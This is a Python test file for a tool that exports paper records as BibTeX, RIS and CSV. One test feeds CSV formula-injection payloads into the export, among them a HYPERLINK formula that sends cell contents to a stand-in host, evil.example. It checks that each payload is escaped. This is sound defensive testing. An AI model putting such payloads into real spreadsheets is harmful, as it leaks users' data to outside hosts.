"""Exports say what the papers say, and other programs read them back."""

from __future__ import annotations

import csv
import io

import bibtexparser
from hypothesis import given
from hypothesis import strategies as st

from rag.library.bibliography import FORMULA, build_keys, format_byline, to_bibtex, to_csv, to_ris
from rag.types import Authorship, Paper, Place

TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=60)


def paper(**changes: object) -> Paper:
    values: dict[str, object] = {
        "paper_id": "p1",
        "title": "Towards 50% Fewer Labels & More",
        "label": "",
        "text": "We show {braces}, 50% and $x_1$ survive.",
        "authorships": (
            Authorship("p1", "Hangyu Li", "first", 1),
            Authorship("p1", "Björn Åström", "listed", 2),
            Authorship("p1", "Nannan Wang", "page"),
        ),
        "authors_complete": False,
        "places": (Place("001.txt", 12), Place("000.txt", 3)),
        "year": 2022,
        "month": 3,
        "code": True,
    }
    return Paper(**{**values, **changes})  # type: ignore[arg-type]


def untitled(paper_id: str = "u1") -> Paper:
    return paper(
        paper_id=paper_id,
        title=None,
        label="“We swap knowledge…”",
        authorships=(),
        year=None,
        month=None,
        code=None,
    )


def test_a_cut_author_list_ends_in_others_in_bibtex() -> None:
    entry = bibtexparser.parse_string(to_bibtex([paper()])).entries[0]
    assert entry["author"] == 'Hangyu Li and Bj{\\"o}rn {\\r{A}}str{\\"o}m and others'
    assert entry["annote"].endswith("Nannan Wang among the authors by the profile page")


def test_an_unknown_year_and_unknown_authors_are_left_out() -> None:
    entry = bibtexparser.parse_string(to_bibtex([untitled()])).entries[0]
    assert not {"year", "month", "author"} & set(entry.fields_dict)
    assert "no title printed" in entry["annote"]
    assert "PY  -" not in to_ris([untitled()])


def test_bibtex_keys_are_family_year_and_first_weighty_word() -> None:
    assert build_keys([paper(title="The Label Noise", year=2021)]) == ["li2021label"]


def test_equal_bibtex_keys_are_told_apart_by_letters() -> None:
    assert build_keys([paper()] * 3) == ["li2022fewer", "li2022fewera", "li2022fewerb"]


@given(title=TEXT, text=TEXT)
def test_bibtex_of_any_text_parses_as_one_entry(title: str, text: str) -> None:
    read = bibtexparser.parse_string(to_bibtex([paper(title=title or None, text=text)]))
    assert (len(read.entries), len(read.failed_blocks)) == (1, 0)


def test_ris_puts_family_names_first_and_ends_each_record() -> None:
    lines = to_ris([paper(), untitled()]).split("\r\n")
    assert "AU  - Li, Hangyu" in lines
    assert "DA  - 2022/03//" in lines
    assert lines.count("ER  - ") == lines.count("TY  - GEN") == 2


@given(title=TEXT, text=TEXT)
def test_csv_gives_back_what_went_in(title: str, text: str) -> None:
    row = next(csv.DictReader(io.StringIO(to_csv([paper(title=title, text=text)]))))
    assert [row[key] for key in ("title", "text")] == [
        f"'{told}" if told.startswith(FORMULA) else told for told in (title, text)
    ]


def test_csv_cells_that_a_spreadsheet_would_compute_are_text() -> None:
    link = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
    people = (Authorship("p1", "+Ada", "first", 1), Authorship("p1", "Bo", "listed", 2))
    texts = {"venue": "@SUM(1)", "category": "-1+1", "text": "\t=1"}
    held = paper(title=link, authorships=people, authors_complete=True, score=-0.5, **texts)
    row = next(csv.DictReader(io.StringIO(to_csv([held]))))
    assert row["title"] == f"'{link}"
    assert row["authors"] == "'+Ada; Bo"
    assert (row["venue"], row["category"], row["text"]) == ("'@SUM(1)", "'-1+1", "'\t=1")
    assert row["score"] == "-0.5"  # a number is no text


def test_csv_tells_unknown_code_from_none() -> None:
    rows = csv.DictReader(io.StringIO(to_csv([paper(), paper(code=False), untitled()])))
    assert [row["code"] for row in rows] == ["yes", "no", ""]


def test_the_byline_says_what_is_unknown() -> None:
    assert format_byline(untitled()) == "authors unknown, year unknown"
    assert format_byline(paper()) == "Hangyu Li, Björn Åström et al., 2022"
    assert format_byline(paper(authors_complete=True)) == "Hangyu Li and Björn Åström, 2022"
